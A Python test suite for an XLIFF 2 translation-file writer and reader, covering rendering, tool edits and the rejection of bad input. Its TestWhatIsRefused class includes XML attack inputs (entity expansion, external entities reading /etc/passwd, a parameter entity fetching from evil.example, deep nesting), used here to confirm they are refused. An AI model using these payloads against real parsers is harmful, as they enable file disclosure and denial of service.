"""XLIFF 2: what a tool of translators is given, and all that such tools do to it."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from translate.storage.xliff2 import Xliff2File

from tests.unit.exchange.parcels import ARABIC, make_parcel, make_unit, what_it_says
from tests.unit.exchange.xliff_rules import find_breaches
from waypost.exchange.parcel import Received
from waypost.exchange.xliff_reader import parse_xliff
from waypost.exchange.xliff_writer import render_xliff
from waypost.model.correction import text_mark
from waypost.model.replacing import replace
from waypost.model.review_unit import Doubt, TermHit
from waypost.model.text import Syntax
from waypost.model.translation import Freshness, Origin

_TEXT = "Pay **{fee}** at the [office]{1}."
_HALB = "Pague **{fee}** en la [oficina]{1}."
_UNIT = make_unit("need/2/text", _TEXT, _HALB, facts=(("fee", "$35.00"),))


def _send(*texts: tuple[str, str | None]) -> str:
    units = [make_unit(f"body/p-{n}", *pair) for n, pair in enumerate(texts, 1)]
    return render_xliff(make_parcel(*units)).data.decode("utf-8")


def _read(text: str | bytes) -> Received:
    return parse_xliff("es.xlf", text if isinstance(text, bytes) else text.encode("utf-8"))


def _codes(received: Received) -> list[str]:
    return [finding.code for finding in received.findings]


def test_a_text_and_all_that_helps_to_translate_it() -> None:
    unit = make_unit(
        "need/2/text",
        _TEXT,
        _HALB,
        facts=(("fee", "$35.00"),),
        doubts=(Doubt("T015", "the numbers aren't those of the source", is_blocking=False),),
        terms=(TermHit("office", ("oficina",), "never despacho", "required"),),
    )
    assert render_xliff(make_parcel(unit)).data.decode("utf-8") == (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0"'
        ' srcLang="en" trgLang="es">\n'
        ' <file id="guides.renew" original="guides/renew" srcDir="ltr" trgDir="ltr"'
        ' canResegment="no" xml:space="preserve">\n'
        '  <unit id="need.2.text" name="need/2/text" type="waypost:markup" canResegment="no"'
        ' xml:space="preserve">\n'
        "   <notes>\n"
        '    <note category="waypost:heading">Under “What to do”</note>\n'
        '    <note category="waypost:context">paragraph, standard risk, machine</note>\n'
        '    <note category="waypost:value">Today: {fee} = $35.00</note>\n'
        '    <note category="waypost:term">office → oficina: required (never despacho)</note>\n'
        '    <note category="waypost:check">the numbers aren\'t those of the source [T015]</note>\n'
        f'    <note category="waypost:mark">{text_mark(_HALB)}</note>\n'
        "   </notes>\n"
        "   <originalData>\n"
        '    <data id="d1">**</data>\n'
        '    <data id="d2">{fee}</data>\n'
        '    <data id="d3">[</data>\n'
        '    <data id="d4">]{1}</data>\n'
        "   </originalData>\n"
        '   <segment state="initial" subState="waypost:machine">\n'
        '    <source>Pay <pc id="1" type="fmt" subType="xlf:b" dataRefStart="d1" dataRefEnd="d1">'
        '<ph id="2" canCopy="no" canDelete="no" disp="$35.00" equiv="{fee}" dataRef="d2"/></pc>'
        ' at the <pc id="3" type="link" canCopy="no" canDelete="no" dataRefStart="d3"'
        ' dataRefEnd="d4">office</pc>.</source>\n'
        '    <target>Pague <pc id="1" type="fmt" subType="xlf:b" dataRefStart="d1"'
        ' dataRefEnd="d1"><ph id="2" canCopy="no" canDelete="no" disp="$35.00" equiv="{fee}"'
        ' dataRef="d2"/></pc> en la <pc id="3" type="link" canCopy="no" canDelete="no"'
        ' dataRefStart="d3" dataRefEnd="d4">oficina</pc>.</target>\n'
        "   </segment>\n"
        "  </unit>\n"
        " </file>\n"
        "</xliff>\n"
    )


@pytest.mark.parametrize(
    ("origin", "freshness", "state"),
    [
        (None, Freshness.CURRENT, 'state="initial" subState="waypost:missing"'),
        (Origin.MACHINE, Freshness.CURRENT, 'state="initial" subState="waypost:machine"'),
        (Origin.DRAFT, Freshness.CURRENT, 'state="initial" subState="waypost:draft"'),
        (Origin.HUMAN, Freshness.CURRENT, 'state="translated" subState="waypost:human"'),
        (Origin.REVIEWED, Freshness.CURRENT, 'state="final" subState="waypost:reviewed"'),
        (Origin.REVIEWED, Freshness.STALE, 'state="initial" subState="waypost:reviewed-stale"'),
    ],
)
def test_what_nobody_has_read_is_still_to_be_done(
    origin: Origin | None, freshness: Freshness, state: str
) -> None:
    target = None if origin is None else "Sí"
    unit = make_unit("a", "Yes", target, origin or Origin.HUMAN, freshness)
    assert f"<segment {state}>" in render_xliff(make_parcel(unit)).data.decode("utf-8")


def test_what_stood_there_before_and_what_is_alike_are_shown() -> None:
    unit = replace(
        make_unit("a", "Yes, now", None),
        former_source="Yes",
        former_target="Sí",
        unusable="Sí, **ya",
        hint=("Yes, soon", "Sí, pronto"),
    )
    text = render_xliff(make_parcel(unit)).data.decode("utf-8")
    assert re.findall(r"waypost:(former|near|check)\">(.*)</note>", text) == [
        ("former", "Translated when the source was: Yes"),
        ("former", "Its translation was: Sí"),
        ("near", "Yes, soon → Sí, pronto"),
        ("check", "This text can't be shown: Sí, **ya"),
    ]


_signs = st.sampled_from(
    [*"ab <>&\"'\\*[]{}\t\n\x01\x1b￾", "{fee}", "**b**", "*c*", "[d]{1}", "[{fee}]{2}", "\r\n"]
)
_texts = st.lists(_signs, min_size=1, max_size=7).map("".join)


@given(st.lists(st.tuples(_texts, st.none() | _texts, st.sampled_from(Syntax)), max_size=4))
def test_every_file_keeps_the_rules_of_the_core(
    texts: list[tuple[str, str | None, Syntax]],
) -> None:
    places = ["need/1", "need.1", "need-1", "é/ü"]
    units = [
        make_unit(place, source, target, syntax=syntax, facts=(("fee", "<5 & \x02"),))
        for place, (source, target, syntax) in zip(places, texts, strict=False)
    ]
    units = units or [_UNIT]
    assert find_breaches(render_xliff(make_parcel(*units, target=ARABIC)).data) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('version="2.0"', 'version="1.2"'),
        ('id="need.2.text"', 'id="need/2/text"'),
        ('dataRef="d2"', 'dataRef="d9"'),
        ('<segment state="initial"', '<segment state="done"'),
        ("target>", "aim>"),
        ('type="waypost:markup"', 'type="markup"'),
        ('<pc id="3"', '<pc id="1"'),
        ("<notes>", "<notes><segment/>"),
    ],
)
def test_the_rules_find_what_is_wrong(old: str, new: str) -> None:
    good = render_xliff(make_parcel(_UNIT)).data.decode("utf-8")
    assert find_breaches(good.encode("utf-8")) == []
    assert find_breaches(good.replace(old, new).encode("utf-8"))


def test_codes_of_a_message_are_protected_and_a_plural_is_not() -> None:
    plural = "{n, plural, one {# day} other {# days}}"
    units = [
        make_unit("a", "You're {age} or older", "Tiene {age} o l'", syntax=Syntax.MESSAGE),
        make_unit("b", plural, plural, syntax=Syntax.MESSAGE),
    ]
    text = render_xliff(make_parcel(*units)).data.decode("utf-8")
    assert "You're <ph " in text
    assert f"<source>{plural}</source>" in text
    assert [one.correction.source for one in _read(text).texts] == [
        "You're {age} or older",
        plural,
    ]


def test_an_apostrophe_before_a_code_stays_one() -> None:
    text = render_xliff(
        make_parcel(make_unit("a", "at {age}", "à {age}", syntax=Syntax.MESSAGE))
    ).data.decode("utf-8")
    (one,) = _read(text.replace("<target>à <ph", "<target>l'<ph")).texts
    assert one.correction.target == "l''{age}"


def test_what_a_vendor_types_is_text_and_no_markup() -> None:
    text = _send(("Yes", "Sí")).replace("<target>Sí", "<target>Sí* {fee} [x] \\")
    (one,) = _read(text).texts
    assert one.correction.target == "Sí\\* \\{fee\\} \\[x\\] \\\\"


class TestWhatToolsDo:
    """The changes that XLIFF 2 allows a tool to make, and those that tools make all the same."""

    def test_a_new_state_and_a_new_text(self) -> None:
        text = _send((_TEXT, _HALB), ("Yes", "Sí"))
        text = text.replace('state="initial" subState="waypost:machine"', 'state="final"', 1)
        text = text.replace("<target>Pague ", "<target>Usted paga ")
        first, second = _read(text).texts
        assert first.correction.is_final
        assert not second.correction.is_final
        assert first.correction.target == _HALB.replace("Pague", "Usted paga")
        assert not first.correction.is_as_given
        assert second.correction.is_as_given

    def test_codes_are_moved(self) -> None:
        text = _send(("Pay {fee} by {day}.", "Pague {fee} antes del {day}."))
        begin, end = text.index("<target>") + 8, text.index("</target>")
        target = text[begin:end]
        one, two = (target[at : target.index("/>", at) + 2] for at in (6, target.index("<ph", 7)))
        swapped = target.replace(one, "@").replace(two, one).replace("@", two)
        (found,) = _read(text[:begin] + swapped + text[end:]).texts
        assert found.correction.target == "Pague {day} antes del {fee}."

    def test_pairs_become_two_codes(self) -> None:
        text = _send(("**Now**", "**Ahora**"))
        text = text.replace(
            '<target><pc id="1" type="fmt" subType="xlf:b" dataRefStart="d1" dataRefEnd="d1">'
            "Ahora</pc>",
            '<target><sc id="1" dataRef="d1"/>Ahora mismo<ec startRef="1" dataRef="d1"/>',
        )
        (one,) = _read(text).texts
        assert one.correction.target == "**Ahora mismo**"

    def test_codes_lose_their_references_to_data(self) -> None:
        text = _send((_TEXT, _HALB))
        head, target = text.split("<target>")
        for name in ("dataRefStart", "dataRefEnd", "dataRef"):
            for data in ("d1", "d2", "d3", "d4"):
                target = target.replace(f' {name}="{data}"', "")
        (one,) = _read(f"{head}<target>{target}").texts
        assert one.correction.target == _HALB

    def test_two_codes_without_references(self) -> None:
        text = _send(("[Here]{1}", "[Aquí]{1}"))
        head, target = text.split("<target>")
        rest = target.partition("</target>")[2]
        bare = '<sc id="1"/>Aquí<ec startRef="1"/></target>'
        (one,) = _read(f"{head}<target>{bare}{rest}").texts
        assert one.correction.target == "[Aquí]{1}"

    def test_annotations_enclose_words(self) -> None:
        text = _send(("Yes", "Sí")).replace(
            "<target>Sí", '<target><mrk id="m1" type="term">Sí</mrk><sm id="m2"/>, <em/>claro'
        )
        (one,) = _read(text).texts
        assert one.correction.target == "Sí, claro"

    def test_characters_are_written_as_references(self) -> None:
        text = _send(("Yes & no", "Sí")).replace("<target>Sí", "<target>S&#237; &amp; &#x6E;o")
        (one,) = _read(text).texts
        assert one.correction.target == "Sí & no"

    def test_a_note_of_a_person_comes_along(self) -> None:
        text = _send(("Yes", "Sí")).replace(
            "   </notes>", '    <note id="n1">Is it\n formal?</note>\n   </notes>'
        )
        (one,) = _read(text).texts
        assert one.correction.note == "Is it formal?"

    def test_units_are_left_out(self) -> None:
        text = _send(("Yes", "Sí"), ("No", "No"))
        begin, end = text.index("  <unit"), text.index("  <unit", text.index("</unit>"))
        received = _read(text[:begin] + text[end:])
        assert [one.correction.source for one in received.texts] == ["No"]
        assert received.findings == ()

    def test_a_text_without_a_translation_says_nothing(self) -> None:
        assert _read(_send(("Yes", None))) == Received()

    def test_the_name_of_the_document_becomes_a_path(self) -> None:
        text = _send(("Yes", "Sí")).replace('original="guides/renew"', 'original="C:\\es.xlf"')
        (one,) = _read(text).texts
        assert one.correction.document == "guides/renew"

    def test_a_namespace_gets_a_prefix_and_foreign_elements_come_in(self) -> None:
        text = _send((_TEXT, _HALB))
        text = text.replace("</", "</x:").replace("</x:x:", "</x:")
        for name in ("xliff", "file", "unit", "notes", "note", "originalData", "data", "segment"):
            text = text.replace(f"<{name} ", f"<x:{name} ").replace(f"<{name}>", f"<x:{name}>")
        for name in ("source", "target", "ph", "pc"):
            text = text.replace(f"<{name} ", f"<x:{name} ").replace(f"<{name}>", f"<x:{name}>")
        text = text.replace("xmlns=", 'xmlns:m="urn:tool" xmlns:x=')
        text = text.replace("<x:notes>", "<m:history><m:v>old</m:v></m:history><x:notes>")
        (one,) = _read(text).texts
        assert one.correction.target == _HALB

    def test_later_versions_are_read(self) -> None:
        text = _send(("Yes", "Sí"))
        assert len(_read(text.replace('version="2.0"', 'version="2.1"')).texts) == 1
        later = text.replace("document:2.0", "document:2.2").replace('n="2.0"', 'n="2.2"')
        assert len(_read(later).texts) == 1

    def test_translate_toolkit_reads_writes_and_gives_it_back(self) -> None:
        toolkit: Any = Xliff2File  # its methods have no types
        store = toolkit.parsestring(_send((_TEXT, _HALB), ("Yes", "Sí")).encode("utf-8"))
        units = [unit for unit in store.units if not unit.isheader()]
        assert [unit.source for unit in units][1] == "Yes"
        assert units[1].isfuzzy()
        units[1].target = "Claro"
        out = io.BytesIO()
        store.serialize(out)
        first, second = _read(out.getvalue()).texts
        assert what_it_says(first.correction)[2:] == (_TEXT, _HALB)
        assert first.correction.is_as_given
        assert second.correction.target == "Claro"


class TestWhatIsRefused:
    """Mistakes and attacks are findings, all at once, with their lines."""

    def test_a_divided_text(self) -> None:
        text = _send(("Yes. No.", "Sí. No.")).replace(
            "   </segment>",
            "   </segment>\n   <segment><source>No.</source><target>No.</target></segment>",
        )
        received = _read(text)
        assert (received.texts, _codes(received)) == ((), ["X006"])
        assert received.findings[0].place.line == 4

    def test_a_unit_without_an_address(self) -> None:
        received = _read(_send(("Yes", "Sí"), ("No", "No")).replace(' name="body/p-1"', ""))
        assert _codes(received) == ["X011"]
        assert len(received.texts) == 1

    def test_codes_that_the_source_has_not_got(self) -> None:
        text = _send(("Yes", "Sí")).replace("<target>Sí", '<target>Sí<ph id="7"/>')
        assert _codes(_read(text)) == ["X005"]
        text = _send(("Yes", "Sí")).replace("<target>Sí", '<target>Sí<cp hex="110000"/>')
        assert _codes(_read(text)) == ["X005"]

    def test_a_file_without_a_language(self) -> None:
        assert _codes(_read(_send(("Yes", "Sí")).replace(' trgLang="es"', ""))) == ["X011"]

    def test_version_1(self) -> None:
        received = _read(
            '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file/></xliff>'
        )
        assert _codes(received) == ["X001"]
        assert "XLIFF 1.2, not 2" in received.findings[0].message

    def test_a_cut_file(self) -> None:
        text = _send(("Yes", "Sí"))
        received = _read(text[:-30])
        assert _codes(received) == ["X001"]
        assert received.texts == ()

    @pytest.mark.parametrize(
        "head",
        [
            '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
            '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
            '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>',
        ],
    )
    def test_entities_and_document_types(self, head: str) -> None:
        text = _send(("Yes", "Sí")).replace("<xliff ", f"{head}<xliff ")
        received = _read(text)
        assert (received.texts, _codes(received)) == ((), ["X001"])

    def test_an_unknown_encoding(self) -> None:
        assert _codes(_read(_send(("Yes", "Sí")).replace("UTF-8", "x-none"))) == ["X001"]

    def test_depth_without_end(self) -> None:
        deep = "<mrk>" * 100_000 + "</mrk>" * 100_000
        text = _send(("Yes", "Sí")).replace("<target>Sí", f"<target>{deep}")
        assert _codes(_read(text)) == ["X001"]

    def test_something_else(self) -> None:
        assert _codes(_read("<html><body/></html>")) == ["X001"]
